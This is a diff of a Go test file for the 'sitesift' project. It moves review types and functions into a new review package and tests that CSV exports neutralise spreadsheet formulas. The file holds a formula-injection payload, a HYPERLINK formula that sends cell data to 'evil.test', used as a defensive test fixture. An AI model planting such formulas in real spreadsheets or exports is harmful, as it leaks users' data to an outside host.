@@ -17,6 +17,7 @@ import (
 	"sitesift/app/export"
 	"sitesift/app/fault"
 	"sitesift/app/ranking"
+	"sitesift/app/review"
 	"sitesift/sites/store"
 )
 
@@ -29,7 +30,7 @@ const hostile = `=HYPERLINK("http://evil.test/?"&A1,"x")`
 // TestOutputCSVNeutralises.
 func TestCSVWritersNeutralise(t *testing.T) {
 	h := func(prefix string) string { return prefix + hostile }
-	sel := app.SelectedSeed{SeedURL: h("="), SelectedSite: store.SelectedSite{Selection: store.Selection{
+	sel := review.SelectedSeed{SeedURL: h("="), SelectedSite: store.SelectedSite{Selection: store.Selection{
 		Site: h("-"), Status: h("@"), Note: h(""), Subject: h("+"), DecidedBy: h("\t"),
 		NominatedBy: h("-"), ApprovedBy: h("+"), RejectedBy: h("="), RejectedReason: h("@")}}}
 	for _, tc := range []struct {
@@ -38,7 +39,7 @@ func TestCSVWritersNeutralise(t *testing.T) {
 		want  int // hostile cells written
 	}{
 		{"ratings", func(w io.Writer) error {
-			return app.WriteRatings(w, []store.Rating{{Librarian: h(""), Site: h("-"), Rating: 3, Note: h("@")}})
+			return review.WriteRatings(w, []store.Rating{{Librarian: h(""), Site: h("-"), Rating: 3, Note: h("@")}})
 		}, 3},
 		{"ratings table", func(w io.Writer) error {
 			return app.WriteRatingsCSV(w, app.RatingsTable{Librarians: []string{h("")}, Rows: []app.RatingsRow{{Site: h("+"), CrawlStatus: h("-"),
@@ -51,13 +52,13 @@ func TestCSVWritersNeutralise(t *testing.T) {
 			return app.WriteCommunities(w, []communities.Community{{Seed: h(""), Site: h("@")}}, export.CSV)
 		}, 2},
 		{"selection", func(w io.Writer) error {
-			return app.WriteSelection(w, []app.SelectedSeed{sel}, export.CSV)
+			return app.WriteSelection(w, []review.SelectedSeed{sel}, export.CSV)
 		}, 9},
 		{"agreement", func(w io.Writer) error {
-			return app.WriteAgreement(w, app.Agreement{Rows: []app.AgreementRow{{Rater: h(""), Kind: h("-")}}}, export.CSV)
+			return app.WriteAgreement(w, review.Agreement{Rows: []review.AgreementRow{{Rater: h(""), Kind: h("-")}}}, export.CSV)
 		}, 2},
 		{"review queue", func(w io.Writer) error {
-			return app.WriteQueue(w, app.ReviewQueue{Rows: []app.QueueItem{{Site: h(""), Status: h("+")}}}, export.CSV)
+			return app.WriteQueue(w, review.ReviewQueue{Rows: []review.QueueItem{{Site: h(""), Status: h("+")}}}, export.CSV)
 		}, 2},
 		{"rank", func(w io.Writer) error {
 			return app.WriteRank(w, []ranking.RankRow{{Site: h("")}, {Site: "plain.test"}, {Site: h("-")}}, export.CSV, false)
@@ -112,18 +113,18 @@ func TestRatingsCSVRoundTrip(t *testing.T) {
 		{Librarian: "ben", Site: "b2.test", Rating: 3, Note: "''@x"},
 	} {
 		apptest.AddLibrarians(t, from, r.Librarian)
-		if _, err := from.Rate(ctx, r.Librarian, r.Site, r.Rating, r.Note); err != nil {
+		if _, err := from.Review.Rate(ctx, r.Librarian, r.Site, r.Rating, r.Note); err != nil {
 			t.Fatal(err)
 		}
 	}
 	var buf bytes.Buffer
-	if err := from.ExportRatingsCSV(ctx, &buf); err != nil {
+	if err := from.Review.ExportRatingsCSV(ctx, &buf); err != nil {
 		t.Fatal(err)
 	}
 	if !strings.Contains(buf.String(), `'=lib,h1.test,4,'=SUM(A1)`) {
 		t.Errorf("export does not neutralise formulas:\n%s", buf.String())
 	}
-	if _, err := to.ImportRatingsCSV(ctx, bytes.NewReader(buf.Bytes()), "ratings.csv"); err != nil {
+	if _, err := to.Review.ImportRatingsCSV(ctx, bytes.NewReader(buf.Bytes()), "ratings.csv"); err != nil {
 		t.Fatal(err)
 	}
 	want, err := fromProject.Store.Ratings(ctx)
@@ -198,11 +199,11 @@ func TestExportBOM(t *testing.T) {
 	if err := a.Export(ctx, &without, app.ExportRequest{What: app.ExportRatings, BOM: &no}); err != nil {
 		t.Fatal(err)
 	}
-	lw, err := app.ParseRatings(&with, "with.csv")
+	lw, err := review.ParseRatings(&with, "with.csv")
 	if err != nil {
 		t.Fatal(err)
 	}
-	lwo, err := app.ParseRatings(&without, "without.csv")
+	lwo, err := review.ParseRatings(&without, "without.csv")
 	if err != nil {
 		t.Fatal(err)
 	}
